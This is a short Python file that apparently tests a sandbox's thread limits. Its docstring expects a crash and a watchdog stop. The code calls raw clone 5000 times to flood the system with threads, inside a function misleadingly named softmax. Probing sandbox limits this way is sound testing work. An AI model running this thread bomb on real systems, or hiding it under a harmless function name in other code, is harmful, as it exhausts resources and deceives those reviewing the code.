"""Threads made by clone itself, a page of stack for each: no library, no memory limit in the way.

comes back: crashed
saying: made more threads than it may
stopped by: the worker's watch
seconds: 3
"""

import ctypes
import mmap
import time

VM_FS_FILES_SIGHAND_THREAD = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000
libc = ctypes.CDLL(None, use_errno=True)
stacks = mmap.mmap(-1, 5000 * 8192)
base = ctypes.addressof(ctypes.c_char.from_buffer(stacks))


def softmax(z, axis=-1):
    for n in range(1, 5001):
        libc.clone(libc.pause, ctypes.c_void_p(base + 8192 * n - 64), VM_FS_FILES_SIGHAND_THREAD, None)
    time.sleep(10_000)
